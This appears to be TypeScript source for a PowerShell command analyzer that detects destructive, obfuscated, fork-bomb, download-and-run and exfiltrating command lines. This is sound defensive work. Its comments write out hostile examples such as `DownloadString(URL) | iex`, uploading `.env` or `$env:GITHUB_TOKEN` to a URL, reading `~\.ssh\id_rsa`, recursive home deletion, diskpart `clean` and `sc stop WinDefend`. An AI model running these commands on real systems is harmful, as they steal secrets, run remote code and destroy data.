const SPAWNS = /\b(?:Start-Process|saps|Start-Job|sajb|Start-ThreadJob)\b|\bstart\s+[-\w"'$]|\[(?:System\.)?Diagnostics\.Process\]::Start\s*\(|&\s*$/im;
/** `while ($true) {`, `while(1){`, `for(;;){`: loops that never end on their own, and `do { .. } while ($true)`. */
const ENDLESS_LOOP = /\b(?:while\s*\(\s*(?:\$true|1|\(\s*1\s*\))\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{/gi;
const ENDLESS_DO = /\bdo\s*\{/gi;

/** Whether a PowerShell line spawns without bound: an endless loop or a self-calling function whose body starts processes. */
function spawnsUnbounded(src: string): boolean {
  if (!/start|saps|sajb|process|job|&/i.test(src)) return false;
  // A bounded number of loops and functions, each scanned once to its closing brace: linear in the line.
  let seen = 0;
  for (const m of src.matchAll(ENDLESS_LOOP)) {
    if (++seen > 16) break;
    const open = (m.index ?? 0) + m[0].length - 1;
    if (SPAWNS.test(src.slice(open + 1, balanced(src, open) - 1))) return true;
  }
  for (const m of src.matchAll(ENDLESS_DO)) {
    if (++seen > 32) break;
    const open = (m.index ?? 0) + m[0].length - 1;
    const end = balanced(src, open);
    if (SPAWNS.test(src.slice(open + 1, end - 1)) && /^\s*(?:while\s*\(\s*(?:\$true|1)\s*\)|until\s*\(\s*(?:\$false|0)\s*\))/i.test(src.slice(end, end + 40))) return true;
  }
  for (const m of src.matchAll(/\bfunction\s+([\w-]+)\s*\{/gi)) {
    if (++seen > 48) break;
    const open = (m.index ?? 0) + m[0].length - 1;
    const body = src.slice(open + 1, balanced(src, open) - 1);
    if (m[1] !== undefined && SPAWNS.test(body) && new RegExp(`(?:^|[\\s;|&{(])${m[1].replace(/[-]/g, "\\-")}(?![\\w-])`, "i").test(body)) return true;
  }
  return false;
}

/**
 * A script block's body with its parameters bound (`{ param($p) Remove-Item $p }` given `$HOME`): each `param(...)`
 * name and `$args[N]` becomes the word passed for it, by position or by `-Name value`. Arguments the line does not
 * show stay as they are (unknown).
 */
function bindBlock(block: string, args: PsWord[]): string {
  const pm = /^\s*(?:\[[^\]]*\]\s*)*param\s*\(([^)]*)\)/i.exec(block);
  const params = pm?.[1] !== undefined ? [...pm[1].matchAll(/\$(\w+)/g)].slice(0, 16).map((m) => (m[1] ?? "").toLowerCase()) : [];
  let body = pm ? block.slice(pm[0].length) : block;
  const named = new Map<string, string>();
  const positional: string[] = [];
  for (let k = 0; k < args.length; k++) {
    const w = args[k] as PsWord;
    const p = paramName(w);
    const param = p === undefined ? undefined : params.find((x) => x.startsWith(p));
    if (param !== undefined && args[k + 1] !== undefined) {
      named.set(param, args[k + 1]?.raw ?? "");
      k++;
    } else positional.push(...topSplit(w.raw, ",").map((x) => x.trim()).filter((x) => x !== ""));
  }
  for (const p of params) {
    const v = named.get(p) ?? positional.shift();
    if (v !== undefined) body = body.replace(new RegExp(`\\$${p}(?![\\w:])`, "gi"), () => v);
  }
  return body.replace(/\$args\[(\d)\]/gi, (m, n: string) => positional[Number(n)] ?? m);
}

/** The words that follow `-ArgumentList` (or `-Args`), up to the next parameter. */
function argumentList(words: PsWord[]): PsWord[] {
  const k = words.findIndex((w) => /^-(?:argumentlist|args?|argu\w*)$/i.test(w.text) && !w.quoted);
  if (k < 0) return [];
  const out: PsWord[] = [];
  for (const w of words.slice(k + 1)) {
    if (paramName(w) !== undefined) break;
    out.push(w);
  }
  return out;
}

/** What a literal write puts in a file: `Set-Content run.ps1 '..'`, `'..' | Out-File x.ps1`, `Add-Content b.bat '..'`. */
function recordWrite(name: string, rest: PsWord[], prev: SimpleCommand | undefined, vars: Map<string, string>, cwd: string, host: WindowsHost): void {
  const w = literalWrite(name, rest, prev);
  if (w === undefined) return;
  const path = resolvePath(psExpand(w.pathW, vars, host.home, cwd).text, cwd, host.home);
  host.write(path, name === "add-content" || name === "ac" ? `${host.written(path) ?? ""}${w.text}\n` : w.text);
}

/** The file word and the literal text a write cmdlet puts there (its -Value, second positional, or a literal piped in). */
function literalWrite(name: string, rest: PsWord[], prev: SimpleCommand | undefined): { pathW: PsWord; text: string } | undefined {
  let pathW: PsWord | undefined;
  let valueW: PsWord | undefined;
  const pos: PsWord[] = [];
  for (let k = 0; k < rest.length; k++) {
    const w = rest[k] as PsWord;
    const p = paramName(w);
    if (p === undefined) {
      pos.push(w);
      continue;
    }
    if (isParam(p, "path") || isParam(p, "filepath") || isParam(p, "literalpath", 2)) pathW = rest[++k];
    else if (isParam(p, "value", 2) || isParam(p, "inputobject")) valueW = rest[++k];
    else if (VALUE_PARAMS.some((v) => isParam(p, v, 2) && (p.length >= 3 || v === p))) k++;
  }
  pathW ??= pos.shift();
  if (name !== "out-file") valueW ??= pos.shift();
  const text = valueW?.quoted ? valueW.text : prev?.synthetic && prev.program === "echo" && !(prev.dynamic[1] ?? false) ? prev.argv.slice(1).join(" ") : undefined;
  if (pathW === undefined || text === undefined) return undefined;
  return { pathW, text };
}

/** A script written on the line, run by its path (`.\run.ps1`, `Start-Process b.cmd`): PowerShell code, or batch lines. */
function runWritten(target: PsWord, vars: Map<string, string>, cwd: string, via: string[], host: WindowsHost): SimpleCommand[] | undefined {
  if (!/\.(?:ps1|bat|cmd)$/i.test(target.text)) return undefined;
  const path = resolvePath(psExpand(target, vars, host.home, cwd).text, cwd, host.home);
  const text = host.written(path);
  if (text === undefined) return undefined;
  const label = `${target.text} (written on this line)`;
  if (/\.ps1$/i.test(target.text)) {
    host.powershell(text, cwd, label);
    return [];
  }
  if (BATCH_SELF.test(text)) {
    // Named by the file alone: a `cmd /c` record would be read again, and again.
    const bomb = simple([target.text], [false], cwd, via, true);
    bomb.selfSpawn = true;
    return [bomb];
  }
  for (const line of text.split(/\r?\n/).slice(0, 64)) if (line.trim() !== "") host.cmdLine(line, cwd, label);
  return [];
}

/** One pipeline stage: the command(s) it stands for. */
/** /^['"{]/ by character code. */
/** `Microsoft.PowerShell.Management\\Remove-Item`: a command named with its module is the command (after `&`/`.` too). */
const QUALIFIED = /^(?:[A-Za-z]\w*(?:\.\w+)+|[A-Za-z]\w*(?=[\\/][A-Za-z]+-[A-Za-z]+$))[\\/]([A-Za-z][\w-]*)$/;
function unqualified(words: PsWord[]): PsWord[] {
  const at = words[0]?.raw === "&" || words[0]?.raw === "." ? 1 : 0;
  const w = words[at];
  // The name may also be quoted after a call operator (which the tokenizer may have dropped): `& 'Microsoft.PowerShell.Management\\Remove-Item' ~`.
  const m = w !== undefined && (!w.quoted || (/^['"]/.test(w.raw) && words.length > at + 1)) ? QUALIFIED.exec(w.text) : null;
  if (m?.[1] === undefined) return words;
  const name = m[1];
  return [...words.slice(0, at), { text: name, raw: name, quoted: false }, ...words.slice(at + 1)];
}

function startsQuotedOrBlock(raw: string): boolean {
  const c = raw.charCodeAt(0);
  return c === 39 || c === 34 || c === 123;
}

function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, via: string[], host: WindowsHost, prev: SimpleCommand | undefined): SimpleCommand[] {
  const home = host.home;
  // `git commit -m "fix $(Remove-Item ..)"`: a subexpression in a double-quoted string runs when the string is made.
  for (const w of wordsIn) if (w.raw.startsWith('"') && w.raw.includes("$(")) for (const m of w.raw.matchAll(/\$\(((?:[^()"]|\([^()]*\))+)\)/g)) if ((m[1] ?? "").trim() !== "") host.powershell(m[1] ?? "", cwd, 'a "$(..)" subexpression');
  const splatted = wordsIn.some((w) => w.raw.startsWith("@") && !w.raw.startsWith("@(") && !w.raw.startsWith("@{")) ? wordsIn.flatMap((w) => splatWords(w, vars)) : wordsIn;
  const words = unqualified(splatted);
  // `'..' > run.ps1`, `"x" >> b.bat`: a redirection writes what the statement prints to the file.
  const redir = words.findIndex((w) => !w.quoted && /^1?>>?$/.test(w.raw));
  const into = redir > 0 ? words[redir + 1] : undefined;
  if (into !== undefined && !/^\$null$/i.test(into.raw)) {
    const path = resolvePath(psExpand(into, vars, home, cwd).text, cwd, home);
    const head = words.slice(0, redir);
    if (head.length === 1 && head[0]?.quoted && /^['"]/.test(head[0].raw)) host.write(path, words[redir]?.raw === ">>" ? `${host.written(path) ?? ""}${head[0].text}\n` : head[0].text);
    return [...psStatement(head, vars, cwd, via, host, prev), simple(["tee", ...(words[redir]?.raw === ">>" ? ["-a"] : []), path], [false, false, false].slice(0, words[redir]?.raw === ">>" ? 3 : 2), cwd, via, true)];
  }
  const w0 = (words[0]?.text ?? "").toLowerCase();
  // `function Clean { param($Path) ... }`: defined, not run; a call runs the body with its arguments bound.
  if ((w0 === "function" || w0 === "filter") && words[1] !== undefined && /^\{[\s\S]*\}$/.test(words[2]?.raw ?? "") && vars.size < 64) {
    // `function f($p) { .. }` declares its parameters in the name's parentheses.
    const inline = /^([\w-]+)\((.*)\)$/s.exec(words[1].raw);
    const body = (words[2]?.raw ?? "{}").slice(1, -1);
    vars.set(`fn:${(inline?.[1] ?? words[1].text).toLowerCase()}`, BLOCK + (inline?.[2] !== undefined ? `param(${inline[2]}) ${body}` : body));
    return [];
  }
  const fnName = vars.get(`alias:${w0}`) ?? w0;
  const fnBody = vars.get(`fn:${fnName}`);
  if (fnBody !== undefined) vars.set(`called:${fnName}`, "");
  // Each call reads the body again with its arguments, up to a bound per line; past it the body is read as written.
  const fnCalls = Number(vars.get("calls:") ?? "0");
  if (fnBody !== undefined && fnCalls >= MAX_CALLS) {
    // Once, as written (its parameters unknown): the later calls add nothing the analysis can bound.
    if (!vars.has(`asread:${fnName}`)) host.powershell(fnBody.slice(BLOCK.length), cwd, `${words[0]?.text ?? ""} (function, as written)`);
    vars.set(`asread:${fnName}`, "");
    return [];
  }
  if (fnBody !== undefined) {
    vars.set("calls:", String(fnCalls + 1));
    // `$HOME | Nuke`: a filter (or a function reading `$_`) gets what is piped in as `$_`.
    const piped = prev?.synthetic && prev.program === "echo" ? prev.argv[1] : undefined;
    const bound = bindBlock(fnBody.slice(BLOCK.length), words.slice(1));
    host.powershell(piped !== undefined ? bound.replace(/\$(?:_|PSItem)(?![\w.])/gi, () => piped) : bound, cwd, `${words[0]?.text ?? ""} (function)`);
    return [];
  }
  // `& { param($d) ... } $HOME`, `& $sb C:\`: a script block called with arguments.
  const called = words[0]?.raw === "&" || words[0]?.raw === "." ? words[1] : words[0];
  const blockOf = (w: PsWord | undefined): string | undefined => {
    if (w === undefined) return undefined;
    if (/^\{[\s\S]*\}$/.test(w.raw)) return w.raw.slice(1, -1);
    const held = /^\$\w+$/.test(w.raw) ? vars.get(w.raw.slice(1).toLowerCase()) : undefined;
    return held?.startsWith(BLOCK) ? held.slice(BLOCK.length) : undefined;
  };
  // (The tokenizer drops a leading `&`: `& { .. } $HOME` reaches here as `{ .. } $HOME`.)
  const argsFrom = called === words[0] ? 1 : 2;
  if (called !== undefined && blockOf(called) !== undefined && words.length > argsFrom && !(argsFrom === 1 && called.raw.startsWith("$") && words[1]?.text === "=")) {
    host.powershell(bindBlock(blockOf(called) ?? "", words.slice(argsFrom)), cwd, "& { } (arguments bound)");
    return [];
  }
  // `Invoke-Command -ScriptBlock { param($p) ... } -ArgumentList $HOME`, `Start-Job { .. } -ArgumentList ..`: the block runs with them.
  if (/^(?:invoke-command|icm|start-job|sajb|start-threadjob)$/i.test(w0)) {
    const sbAt = words.findIndex((w) => /^-s(?:criptblock|c\w*)?$/i.test(w.text) && !w.quoted);
    const block = blockOf(sbAt > 0 ? words[sbAt + 1] : words.slice(1).find((w) => /^\{/.test(w.raw)));
    const args = argumentList(words);
    if (block !== undefined && args.length > 0) {
      host.powershell(bindBlock(block, args), cwd, `${w0} (arguments bound)`);
      return [];
    }
  }
  // `"select disk 0`nclean" | diskpart`: a string on its own is written to the output, like echo.
  if (words.length === 1 && words[0]?.quoted && /^['"]/.test(words[0].raw)) return [simple(["echo", words[0].text.replace(/`n/g, "\n")], [false, false], cwd, via, true)];
  // `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('..'))` alone gives the decoded text, as a string would.
  const decodes = words.length === 1 && /GetString\(/i.test(words[0]?.raw ?? "") ? /^\[(?:System\.)?Text\.Encoding\]::(\w+)\.GetString\(\s*\[(?:System\.)?Convert\]::FromBase64String\(\s*'([A-Za-z0-9+/=]{4,65536})'\s*\)\s*\)$/i.exec(words[0]?.raw ?? "") : null;
  if (decodes?.[2] !== undefined) return [simple(["echo", Buffer.from(decodes[2], "base64").toString(/^unicode$/i.test(decodes[1] ?? "") ? "utf16le" : "utf8")], [false, false], cwd, via, true)];
  // `& $env:TEMP\a.exe`, `. .\x.ps1`: the call and dot-source operators run what follows.
  // `& ('Remove'+'-Item') -Recurse ~`: a command name joined from string literals is that name.
  // The tokenizer drops the call operator, so a leading parenthesised concatenation is read as a call too (fails closed).
  const at = words[0]?.raw === "&" || words[0]?.raw === "." ? 1 : 0;
  // `& ('Remove'+'-Item')`, `& (gcm ri)`, `&([string][char]114 + [char]109)`: a command named by an expression the line shows.
  const callee = words[at]?.raw ?? "";
  if (/^\(/.test(callee) && (words.length > at + 1 || at === 1)) {
    const name = commandNamed(callee) ?? psStringExpr(callee, vars, home, cwd);
    if (name !== undefined && /^[\w.-]+$/.test(name)) return psStatement([{ text: name, raw: name, quoted: false }, ...words.slice(at + 1)], vars, cwd, via, host, prev);
  }
  // `& "$([char]82)emove-Item" ~`: a double-quoted name whose subexpressions the line can evaluate.
  const quotedName = words[at]?.raw.startsWith('"') && words[at]?.text.includes("$(") ? psStringExpr(words[at]?.raw ?? "", vars, home, cwd) : undefined;
  if (quotedName !== undefined && /^[\w.-]+$/.test(quotedName) && words.length > at + 1) return psStatement([{ text: quotedName, raw: quotedName, quoted: false }, ...words.slice(at + 1)], vars, cwd, via, host, prev);
  if ((words[0]?.raw === "&" || words[0]?.raw === ".") && words.length > 1 && !/^[{(]/.test(words[1]?.raw ?? "")) {
    const target = words[1] as PsWord;
    if (!target.raw.startsWith("$")) return psStatement(words.slice(1), vars, cwd, via, host, prev);
    // `$a = 'Remove-Item'; & $a -Recurse ~`: a command named by a variable set on the line.
    const named = /^\$\w+$/.test(target.raw) ? vars.get(target.raw.slice(1).toLowerCase()) : undefined;
    if (named !== undefined && /^[\w.-]+$/.test(named)) return psStatement([{ text: named, raw: named, quoted: false }, ...words.slice(2)], vars, cwd, via, host, prev);
    // `& $env:TEMP\a.exe`: a program named by a variable path.
    const e = joinPath(target.raw, vars, host.home, cwd) ?? psExpand(target, vars, host.home, cwd).text;
    const rest = words.slice(2).map((w) => psExpand(w, vars, host.home, cwd).text);
    return [simple([e, ...rest], [false, ...rest.map(() => false)], cwd, via)];
  }
  const first = words[0] as PsWord;
  const ran = /^(?:start-process|saps|start|invoke-item|ii)$/i.test(first.text) ? runWritten(words.slice(1).find((w) => paramName(w) === undefined) ?? first, vars, cwd, via, host) : runWritten(first, vars, cwd, via, host);
  if (ran !== undefined) return ran;
  const out: SimpleCommand[] = [];
  // `gci .\obj -Recurse | % { ri $_.FullName -Recurse }`: the block runs on each listed item ($_), below the listing.
  const each = /^(?:%|foreach-object|foreach)$/i.test(words[0]?.text ?? "") && prev !== undefined && LIST.has(prev.program);
  const listedDir = each ? (prev?.argv.slice(1).find((w) => !w.startsWith("-")) ?? ".") : undefined;
  // Subexpressions and script blocks run their contents.
  for (const w of each ? words.slice(1).map((x) => (/^\{/.test(x.raw) ? { ...x, raw: x.raw.replace(/\$(?:_|PSItem)(?:\.(?:FullName|Name|PSPath))?\b/g, `'${(listedDir ?? ".").replace(/\/+$/, "")}/*'`) } : x)) : words) {
    // `[void](Remove-Item ~ -Recurse -Force)`: a type cast before a parenthesised pipeline runs it all the same.
    // `(Get-Content .env)[0]`, `(gc package.json | ConvertFrom-Json).version`: an index or a property of what the pipeline gives
    // (`.Count` and `.Length` give a number, nothing of the content).
    // (Either form starts with its bracket, a cast or a sigil: a word starting otherwise is not tried against them.)
    const c0 = w.raw.charCodeAt(0);
    const m = c0 === 40 || c0 === 91 || c0 === 36 || c0 === 64 ? /^(?:\[[\w.]+(?:\[\])?\]\s*)*[$@]?\((.*)\)(?:\[[\w$-]{1,32}\]|\.(?!(?:Count|Length)\b)\w{1,64}(?:\(\s*\))?)*$/is.exec(w.raw) : c0 === 123 ? /^\{(.*)\}$/s.exec(w.raw) : null;
    // `if ($env:GITHUB_TOKEN) {..}`, `while (!$x)`: a condition that is only a variable (or its test) is consumed, not printed.
    if (w === words[1] && CONDITIONAL.test(first.text) && CONDITION_VALUE.test(w.raw)) continue;
    // (`@('-NoProfile', '-Command', '..')`: an array of string literals is data, not code.)
    if (m?.[1] !== undefined && !/^\(\s*(?:Join|Split)-Path\b/i.test(w.raw) && !LITERAL_LIST.test(m[1])) host.powershell(m[1], cwd, "powershell (...)");
  }
  // `try { .. } catch { .. }`, `if (..) { .. } else { .. }`: a keyword's blocks and conditions were read above; the
  // keyword itself runs nothing, and its block text is code, not a program's arguments.
  if (!first.quoted && KEYWORDS.test(first.text)) return out;
  // -WhatIf: PowerShell only says what it would do.
  // (Any unique prefix of it, `-wh`, or its alias `-wi`.)
  if (words.some((w) => !w.quoted && /^-(?:wh(?:a(?:t(?:i(?:f)?)?)?)?|wi)(?::\$true)?$/i.test(w.text))) return out;
  // Quoted strings are data; script blocks are read on their own (above).
  // A double-quoted string's `$(...)` runs before the string is used: `iex "& { $(irm URL) }"` runs the download.
  const line = words.filter((w) => !startsQuotedOrBlock(w.raw) || (w.raw.startsWith('"') && w.raw.includes("$("))).map((w) => w.raw).join(" ");
  // Each scan below needs a literal the line may lack (`]::`, `).`, a download call): tested once, cheaply, first.
  const statics = line.includes("]::");
  const downloads = DOWNLOAD.test(line);
  if (statics) for (const m of line.matchAll(/\[(?:System\.)?IO\.File\]::(?:ReadAll(?:Text|Lines|Bytes)|OpenRead|Copy)\(\s*['"]([^'"]+)['"]/gi)) out.push(simple(["cat", windowsPath(m[1] ?? "", home)], [false, false], cwd, via, true));
  // `[Environment]::GetEnvironmentVariable('GITHUB_TOKEN')` prints the variable.
  if (statics) for (const m of line.matchAll(/\[(?:System\.)?Environment\]::GetEnvironmentVariables?\(\s*(?:['"](\w+)['"])?/gi)) out.push(m[1] ? simple(["echo", `$env:${m[1]}`], [false, true], cwd, via, true) : simple(["env"], [false], cwd, via, true));
  // .NET calls: [IO.Directory]::Delete($HOME, $true), [IO.File]::Delete(...).
  if (statics) for (const m of line.matchAll(/\[(?:System\.)?IO\.(Directory|File)\]::Delete\(\s*([^,)]+)(,\s*\$true)?/gi)) {
    const target = psExpand({ text: (m[2] ?? "").replace(/^['"]|['"]$/g, ""), raw: m[2] ?? "", quoted: false }, vars, home, cwd);
    out.push(simple(["rm", ...(m[3] ? ["-r"] : []), target.text], [false, ...(m[3] ? [false] : []), target.dynamic], cwd, via, true));
  }
  // `(Get-Item $HOME).Delete($true)`: the .NET object's own delete, recursive with $true.
  if (line.includes(").")) for (const m of line.matchAll(/\(\s*(?:Get-Item|gi|Get-ChildItem|gci)\s+([^)]+?)\s*\)\.Delete\(\s*(\$true)?/gi)) {
    const target = psExpand({ text: (m[1] ?? "").replace(/^['"]|['"]$/g, ""), raw: m[1] ?? "", quoted: false }, vars, home, cwd);
    out.push(simple(["rm", ...(m[2] ? ["-r"] : []), target.text], [false, ...(m[2] ? [false] : []), target.dynamic], cwd, via, true));
  }
  // `[scriptblock]::Create('Remove-Item ~ -Recurse').Invoke()`: the text becomes code that runs.
  // A text the line shows is read as code on its own; only what is left of the line is scanned for a fetch-and-run.
  let unread = line;
  if (statics) for (const m of line.matchAll(/\[scriptblock\]::Create\(/gi)) {
    const open = (m.index ?? 0) + m[0].length - 1;
    const close = balanced(line, open);
    const text = psStringExpr(line.slice(open, close), vars, home, cwd);
    if (text !== undefined) host.powershell(text, cwd, "[scriptblock]::Create");
    if (text !== undefined) unread = unread.replace(line.slice(m.index ?? 0, close), "[scriptblock]::Create('')");
  }
  // `(New-Object Net.WebClient).DownloadString(URL) | iex`: the text fetched is what the next stage gets.
  if (downloads) for (const m of line.matchAll(/\.Download(?:String|Data)\(\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? ""], [false, false], cwd, via, true));
  // `(New-Object Net.WebClient).UploadFile(URL, '.env')`, `.UploadString(URL, $env:GITHUB_TOKEN)`: what the client sends.
  for (const m of line.matchAll(/\.Upload(File|String|Data|Values)\(\s*['"]([^'"]+)['"]\s*,\s*(?:['"][A-Za-z]+['"]\s*,\s*)?([^)]{1,300})\)/gi)) {
    const what = (m[3] ?? "").trim();
    const file = /^file$/i.test(m[1] ?? "") ? windowsPath(what.replace(/^['"]|['"]$/g, ""), home) : undefined;
    const args = file !== undefined ? ["-T", file] : ["-d", what.replace(/^'|'$/g, "")];
    out.push(simple(["invoke-webrequest", m[2] ?? "", ...args], [false, false, false, file === undefined && what.startsWith("$")], cwd, via, true));
  }
  // `(New-Object Net.WebClient).DownloadFile(URL, 'a.exe')`: a file downloaded, to be run later on the line.
  if (downloads) for (const m of line.matchAll(/\.DownloadFile\(\s*['"]([^'"]+)['"]\s*,\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? "", "-o", windowsPath(m[2] ?? "", home)], [false, false, false, false], cwd, via, true));
  const tainted = words.some((w) => /^\$\w+$/.test(w.raw) && vars.get(w.raw.slice(1).toLowerCase()) === DOWNLOADED);
  if ((downloads && DOWNLOAD.test(unread) && RUNS_TEXT.test(unread)) || (tainted && IEX.has(first.text.toLowerCase()))) {
    const fetch = simple(["invoke-webrequest"], [false], cwd, via, true);
    fetch.pipeTo = ["iex"];
    out.push(fetch);
  }
  // `& $env:TEMP\a.exe` (the tokenizer drops the call operator): a path under a variable is a program run.
  if (/^\$[\w:]+[\\/]\S/.test(first.raw) && !first.quoted && words[1]?.text !== "=") {
    const rest = words.slice(1).map((w) => (paramName(w) !== undefined ? w.text : psExpand(w, vars, home, cwd).text));
    out.push(simple([psExpand(first, vars, home, cwd).text, ...rest], [false, ...rest.map(() => false)], cwd, via));
    return out;
  }
  // `$a = 'Remove-Item'; & $a -Recurse ~` (the tokenizer drops the `&`): a command named by a variable set on the line.
  const calls = /^\$\w+$/.test(first.raw) && words.length > 1 && words[1]?.text !== "=" ? vars.get(first.raw.slice(1).toLowerCase()) : undefined;
  if (calls !== undefined && /^[A-Za-z][\w.-]*$/.test(calls)) return psStatement([{ text: calls, raw: calls, quoted: false }, ...words.slice(1)], vars, cwd, via, host, prev);
  // `$x = 'value'`: later words can use it. `$env:GITHUB_TOKEN` alone prints it.
  if (first.raw.startsWith("$") && !first.quoted) {
    if (words[1]?.text === "=" && words.length >= 3 && words[2]) {
      const v = words[2];
      const value = words.slice(2).map((x) => x.raw).join(" ");
      // `$s = irm https://x.io/i; iex $s`: the variable holds downloaded code.
      const key = first.raw.slice(1).toLowerCase();
      const encoded = /ToBase64String\(\s*\[(?:System\.)?Text\.Encoding\]::(Unicode|UTF8|ASCII)\.GetBytes\(\s*(?:'((?:[^']|'')*)'|\$(\w+))\s*\)\s*\)/i.exec(value);
      // A literal's own text, as `[Text.Encoding]::Unicode.GetBytes($s)` reads it.
      if (words.length === 3 && v.quoted && /^['"]/.test(v.raw) && vars.size < 64) vars.set(`text:${key}`, v.text);
      // `$env:GIT_SSH_COMMAND = 'powershell -c ..'`: a command line git (or a pager's caller) will run, read as cmd reads it.
      if (words.length === 3 && v.quoted && /^env:(?:git_ssh_command|git_pager|git_editor|git_external_diff|git_sequence_editor|git_askpass|git_proxy_command|pager|manpager|editor|visual)$/i.test(key) && v.text.trim() !== "") host.cmdLine(v.text, cwd, `$${first.raw.slice(1)} =`);
      if (encoded?.[1] !== undefined) {
        // `$c = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('..'))`: the encoding of a text the line shows.
        const plain = encoded[2] !== undefined ? encoded[2].replaceAll("''", "'") : vars.get(`text:${(encoded[3] ?? "").toLowerCase()}`);
        if (plain !== undefined) vars.set(key, Buffer.from(plain, /^unicode$/i.test(encoded[1]) ? "utf16le" : "utf8").toString("base64"));
        else vars.delete(key);
      } else if (DOWNLOAD.test(value) || FETCH.has(v.text.toLowerCase())) vars.set(key, DOWNLOADED);
      else if (words.length === 3 && /^\{[\s\S]*\}$/.test(v.raw)) vars.set(key, BLOCK + v.raw.slice(1, -1));
      else if (words.length > 3 || (v.quoted && !/^(?:'(?:[^']|'')*'|"[^"]*")$/.test(v.raw))) {
        // `$c = -join ('metI-evomeR'[-1..-11])`, `$n = 'xRemove-Itemx'.Substring(1, 11)`: a string built from literals.
        const built = psStringExpr(words.slice(2).map((x) => x.raw).join(" "), vars, home, cwd);
        if (built !== undefined) vars.set(key, built);
        else vars.delete(key);
      }
      else if (words.length === 3 && v.raw.startsWith("@{") && v.raw.endsWith("}")) vars.set(key, SPLAT + v.raw.slice(2, -1));
      else if (/FromBase64String\(\s*['"][A-Za-z0-9+/=]{4,65536}['"]\s*\)/i.test(value) && /GetString\(/i.test(value)) {
        // `$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('..'))`: the decoded text.
        const lit = /FromBase64String\(\s*['"]([A-Za-z0-9+/=]+)['"]/i.exec(value)?.[1] ?? "";
        vars.set(key, Buffer.from(lit, "base64").toString(/Unicode\./i.test(value) ? "utf16le" : "utf8"));
      }
      else if (words.length === 3 && (!/^[$@(]/.test(v.raw) || v.quoted)) vars.set(key, psExpand(v, vars, home, cwd).text);
      else {
        const arr = /^@\(\s*('[^']*'|"[^"$]*")\s*\)$/.exec(v.raw)?.[1];
        const built = arr !== undefined ? arr.slice(1, -1) : words.length === 3 ? psStringExpr(v.raw, vars, home, cwd) : undefined;
        if (built !== undefined) vars.set(key, built);
        else vars.delete(key);
      }
      // `$k = Get-Content ~\.ssh\id_rsa -Raw`, `$r = . (gcm ri) ~ -Recurse`: the command on the right runs. Into
      // `$null` the output is discarded, so whatever the right side is (`[Environment]::SetEnvironmentVariable(..)`) it runs.
      const discard = key === "null" && !(words.length === 3 && (/^\$[\w:]+$/.test(v.raw) || v.quoted));
      if (discard || (!v.quoted && (/^[A-Za-z]/.test(v.raw) || v.raw === "." || v.raw === "&") && !/^\d/.test(v.raw))) out.push(...psStatement(words.slice(2), vars, cwd, via, host, prev));
      // `$null = 'C:\x' | Remove-Item`: a string literal on the right is what the next stage is given.
      else if (words.length === 3 && v.quoted && /^['"]/.test(v.raw)) out.push(...psStatement([v], vars, cwd, via, host, prev));
    } else if (words.length === 1) {
      const file = /^\$\{[A-Za-z]:(.+)\}$/.exec(first.raw);
      if (file?.[1]) out.push(simple(["cat", windowsPath(file[1], home)], [false, false], cwd, via, true));
      else {
        const held = /^\$\w+$/.test(first.raw) ? vars.get(first.raw.slice(1).toLowerCase()) : undefined;
        out.push(held !== undefined && held !== DOWNLOADED && !held.startsWith(SPLAT) ? simple(["echo", windowsPath(held, home)], [false, false], cwd, via, true) : simple(["echo", first.raw], [false, true], cwd, via, true));
      }
    }
    return out;
  }
  const aliased = vars.get(`alias:${first.text.toLowerCase()}`);
  const name = aliased ?? first.text.toLowerCase().replace(/\.(?:exe|com)$/, "");
  const rest = words.slice(1);
  // `sc delete wuauserv`, `sc stop WinDefend`: before a service verb, `sc` is sc.exe (PowerShell 7 has no `sc` alias), not Set-Content.
  const scExe = name === "sc" && SC_VERB.test(rest[0]?.text ?? "");
  if (/^(?:set-content|sc|add-content|ac|out-file)$/.test(name) && !scExe && vars.size < 64) recordWrite(name, rest, prev, vars, cwd, host);
  if (name === "set-alias" || name === "new-alias" || name === "sal" || name === "nal") {
    // `Set-Alias x Remove-Item; x ~ -Recurse`: the alias stands for that command for the rest of the line.
    const ops = rest.filter((w, k) => paramName(w) === undefined && !(k > 0 && /^(?:scope|option|description)$/i.test(paramName(rest[k - 1] as PsWord) ?? "")));
    const named = rest.findIndex((w) => /^-n(?:ame)?$/i.test(w.text));
    const valued = rest.findIndex((w) => /^-v(?:alue)?$/i.test(w.text));
    const alias = named >= 0 ? rest[named + 1]?.text : ops[0]?.text;
    const target = valued >= 0 ? rest[valued + 1]?.text : ops[named >= 0 || valued >= 0 ? ops.length - 1 : 1]?.text;
    if (alias !== undefined && target !== undefined && vars.size < 64) vars.set(`alias:${alias.toLowerCase()}`, target.toLowerCase());
    return out;
  }
  if ((name === "set-variable" || name === "sv" || name === "new-variable" || name === "nv") && vars.size < 64) {
    // `Set-Variable -Name t -Value 'C:\x'; Remove-Item $t`: the same as `$t = 'C:\x'`.
    const ops = rest.filter((w, k) => paramName(w) === undefined && !(k > 0 && /^(?:scope|option|description|visibility)$/i.test(paramName(rest[k - 1] as PsWord) ?? "")));
    const named = rest.findIndex((w) => /^-n(?:a|am|ame)?$/i.test(w.text) && !w.quoted);
    const valued = rest.findIndex((w) => /^-v(?:a|al|alu|alue)?$/i.test(w.text) && !w.quoted);
    const key = (named >= 0 ? rest[named + 1]?.text : ops[0]?.text)?.toLowerCase();
    const value = valued >= 0 ? rest[valued + 1] : ops[named >= 0 ? 0 : 1];
    if (key !== undefined && /^\w+$/.test(key)) {
      if (value !== undefined && value.quoted && /^(?:'(?:[^']|'')*'|"[^"]*")$/.test(value.raw)) vars.set(key, psExpand(value, vars, home, cwd).text);
      else vars.delete(key);
    }
    return out;
  }
  if (name === "new-psdrive" || name === "ndr") {
    const n = rest.findIndex((w) => /^-n(?:ame)?$/i.test(w.text));
    const r = rest.findIndex((w) => /^-r(?:oot)?$/i.test(w.text));
    const driveName = rest[n + 1];
    const rootWord = rest[r + 1];
    if (n >= 0 && r >= 0 && driveName && rootWord) {
      const e = psExpand(rootWord, vars, home, cwd);
      if (!e.dynamic) vars.set(`drive:${driveName.text.toLowerCase()}`, e.text);
    }
    return out;
  }
